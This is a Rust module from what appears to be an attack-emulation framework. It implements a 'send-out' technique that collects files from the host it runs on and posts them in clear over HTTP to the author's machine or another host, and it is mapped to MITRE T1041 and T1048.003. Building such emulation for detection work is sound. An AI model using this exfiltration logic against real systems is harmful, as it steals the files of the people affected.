//! Sends files out of the house.

use super::dwell::{call, port};
use super::{Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::{Input, SocketEvent};
use crate::wire::Message;
use crate::wire::file::File;
use crate::wire::http::Http;

/// Technique `send-out`.
#[derive(Debug)]
pub(super) struct SendOut;

static ENTRY: Entry = Entry {
    id: "send-out",
    title: "Send files out",
    summary: "Opens a web session to its author's computer or another host and sends the files that it got hold of, and those of the host it runs on, \
              in clear. It is done when they are sent. A sensor on the way sees as many bytes leave as the files are long.",
    parameters: &[
        Parameter {
            name: "to",
            kind: ParameterKind::Host,
            required: false,
            doc: "host that gets them; the author's computer on the internet if not given",
        },
        Parameter {
            name: "port",
            kind: ParameterKind::Integer,
            required: false,
            doc: "port; 443 if not given",
        },
        Parameter {
            name: "path",
            kind: ParameterKind::Text,
            required: false,
            doc: "path of the one file that is sent; all if not given",
        },
    ],
    references: &["T1041", "T1048.003"],
};

fn files(step: &mut Step<'_, '_, '_>) -> Vec<File> {
    let mut files = step.knowledge.files.clone();
    for info in step.hands.files() {
        files.extend(step.hands.read_file(&info.path));
    }
    let path = step.params.text("path");
    files.retain(|f| path.is_empty() || f.path == path);
    files
}

impl Technique for SendOut {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["find", "connect", "sent"]
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => call(step),
            Input::Socket(SocketEvent::Opened(stream)) => {
                let files = files(step);
                if files.is_empty() {
                    return Progress::Failed("no such files");
                }
                for file in files {
                    let post = Http::Post { file };
                    step.hands.send(*stream, Message::Http(Box::new(post)));
                }
                step.state.stream = None;
                step.hands.close(*stream);
                Progress::Done("files sent")
            }
            input => {
                let (to, port) = (step.params.text("to"), port(step.params));
                step.reach(input, to, port).unwrap_or(Progress::Wait)
            }
        }
    }
}
